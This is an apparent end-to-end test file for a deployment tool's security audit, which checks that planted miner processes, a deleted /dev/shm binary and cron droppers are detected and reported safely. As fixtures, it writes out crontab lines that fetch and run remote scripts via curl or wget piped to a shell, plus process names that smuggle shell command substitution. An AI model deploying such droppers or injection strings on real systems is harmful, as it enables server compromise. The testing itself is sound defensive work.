import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { e2eUnavailable, GoliveRunner, TestServer } from '../helpers/test-server.js';

const skip = e2eUnavailable();

interface Item {
  readonly id: string;
  readonly status: string;
  readonly evidence: string;
}

/** A file name a dropper could pick: a newline and shell code, cut to 15 bytes as its process name. */
const HOSTILE_FILE = 'b\n;$(id)`id`';
/** A process name that, run by a shell or split on lines, would create /tmp/pwned. */
const HOSTILE_COMM = 'a\n$(>/tmp/pw)';

/**
 * Starts, inside the server, what a compromised server runs: a miner copied to /tmp, a program run
 * from /dev/shm and deleted there, a process that renamed itself xmrig (as one in a container
 * looks from the host), and one that named itself with a newline and shell code. Prints their pids.
 */
const PLANT = `start() { setsid "$@" </dev/null >/dev/null 2>&1 & echo $!; }
cp /bin/sleep /tmp/kdevtmpfsi && start /tmp/kdevtmpfsi 600
cp /bin/sleep "/dev/shm/$1" && p=$(start "/dev/shm/$1" 600) && echo "$p"
for i in $(seq 50); do [ "$(readlink "/proc/$p/exe")" = "/dev/shm/$1" ] && break; sleep 0.1; done; rm -- "/dev/shm/$1"
start python3 -c 'import sys, time; open("/proc/self/comm", "w").write(sys.argv[1]); time.sleep(600)' xmrig
start python3 -c 'import sys, time; open("/proc/self/comm", "w").write(sys.argv[1]); time.sleep(600)' "$2"
sleep 0.5`;

const CRON_D = '* * * * * root curl -fsSL http://example.invalid/x.sh | sh\n';
const POSTGRES_CRONTAB = '# kinsing puts itself in the database account\'s crontab\n*/5 * * * * (curl -s http://example.invalid/pg.sh || wget -q -O - http://example.invalid/pg.sh) | bash >/dev/null 2>&1\n';

/** Stand-ins for installed services: units of the real names, each running `sleep infinity`. */
const STAND_INS = ['crowdsec', 'crowdsec-firewall-bouncer', 'prometheus-node-exporter'];

describe('audit: intrusion signs and security services on a real server', { skip }, () => {
  let server: TestServer;
  let golive: GoliveRunner;

  const audit = async (): Promise<Map<string, Item>> => {
    const result = await golive.run(golive.args('deploy', ['audit', '--json']));
    assert.ok(result.exitCode === 0 || result.exitCode === 2, `golive audit exited ${result.exitCode}: ${result.stderr}`);
    const items = (JSON.parse(result.stdout) as { items: Item[] }).items;
    return new Map(items.map((item) => [item.id, item]));
  };
  const status = (items: Map<string, Item>, id: string) => items.get(id)?.status;
  const standIn = (name: string) =>
    server.exec(['sh', '-c', 'printf "[Service]\\nExecStart=/bin/sleep infinity\\n" >"/etc/systemd/system/$1.service" && systemctl daemon-reload && systemctl start "$1"', 'sh', name]);

  before(async () => {
    server = await TestServer.boot('h-intr', 85);
    golive = new GoliveRunner(server);
    await golive.run(golive.args('deploy', ['history', '--accept-new-host-key']));
  });
  after(() => server?.destroy());

  it('a stock server: no miner, no CrowdSec, no monitoring, no scanner', async () => {
    const items = await audit();
    assert.equal(status(items, 'intrusion.miners'), 'pass', items.get('intrusion.miners')?.evidence);
    assert.match(items.get('intrusion.miners')!.evidence, /\/proc: \d+ processes/);
    assert.equal(status(items, 'crowdsec.running'), 'fail');
    assert.equal(status(items, 'monitoring'), 'warn');
    assert.equal(status(items, 'scan.images'), 'warn');
  });

  it('planted miners, a deleted program in /dev/shm and cron droppers fail, each named, hostile names escaped', async () => {
    const planted = await server.exec(['sh', '-c', PLANT, 'sh', HOSTILE_FILE, HOSTILE_COMM]);
    assert.equal(planted.exitCode, 0, planted.stderr);
    const [miner, deleted, renamed, hostile] = planted.stdout.trim().split('\n').map(Number);
    await server.exec(['sh', '-c', 'cat >/etc/cron.d/golive-test-dropper'], CRON_D);
    await server.exec(['sh', '-c', 'cat >/var/spool/cron/crontabs/postgres && chown postgres:crontab /var/spool/cron/crontabs/postgres && chmod 600 /var/spool/cron/crontabs/postgres'], POSTGRES_CRONTAB);
    await standIn('crowdsec');
    assert.equal((await server.exec(['cat', `/proc/${hostile}/comm`])).stdout, HOSTILE_COMM, 'the process really named itself so');

    const items = await audit();
    const { status: minersStatus, evidence } = items.get('intrusion.miners')!;
    assert.equal(minersStatus, 'fail', evidence);
    const lines = evidence.split('\n');
    assert.ok(lines.includes(`PID ${miner} kdevtmpfsi (/tmp/kdevtmpfsi): a known miner's name; runs from /tmp`), evidence);
    assert.ok(lines.includes(`PID ${deleted} b\\n;$(id)\`id\` (/dev/shm/b\\n;$(id)\`id\` (deleted)): runs from /dev/shm, its file deleted`), evidence);
    assert.ok(lines.some((l) => l.startsWith(`PID ${renamed} xmrig (/usr/bin/python3`) && l.endsWith("a known miner's name")), evidence);
    assert.ok(!evidence.includes(`PID ${hostile} `), 'a process that is only oddly named is not reported');
    assert.ok(lines.includes('/etc/cron.d/golive-test-dropper line 1: * * * * * root curl -fsSL http://example.invalid/x.sh | sh (downloads a script and runs it)'), evidence);
    assert.ok(lines.some((l) => l.startsWith('/var/spool/cron/crontabs/postgres line 2: */5 * * * * (curl -s')), evidence);
    assert.equal(lines.length, 5, `one line per finding:\n${evidence}`);
    assert.equal((await server.exec(['test', '-e', '/tmp/pw'])).exitCode, 1, 'no process name was run');
    assert.equal(status(items, 'crowdsec.running'), 'warn', 'an agent without a bouncer');
    assert.match(items.get('crowdsec.running')!.evidence, /crowdsec\.service active, but no bouncer/);

    await server.exec(['kill', ...[miner, deleted, renamed, hostile].map(String)]);
  });

  it('once they are stopped and the cron entries removed: pass; services running and a scanner present: pass', async () => {
    await server.sh('rm -f /etc/cron.d/golive-test-dropper /var/spool/cron/crontabs/postgres /tmp/kdevtmpfsi');
    for (const name of STAND_INS.slice(1)) await standIn(name);
    await server.exec(['sh', '-c', 'printf "#!/bin/sh\\nexit 0\\n" >/usr/local/bin/trivy && chmod 755 /usr/local/bin/trivy']);

    const items = await audit();
    assert.equal(status(items, 'intrusion.miners'), 'pass', items.get('intrusion.miners')?.evidence);
    assert.equal(status(items, 'crowdsec.running'), 'pass', items.get('crowdsec.running')?.evidence);
    assert.equal(items.get('crowdsec.running')!.evidence, 'crowdsec.service active; crowdsec-firewall-bouncer.service active');
    assert.equal(status(items, 'monitoring'), 'pass', items.get('monitoring')?.evidence);
    assert.equal(items.get('monitoring')!.evidence, 'prometheus-node-exporter.service active');
    assert.equal(status(items, 'scan.images'), 'pass');
    assert.equal(items.get('scan.images')!.evidence, 'found: /usr/local/bin/trivy');
  });
});
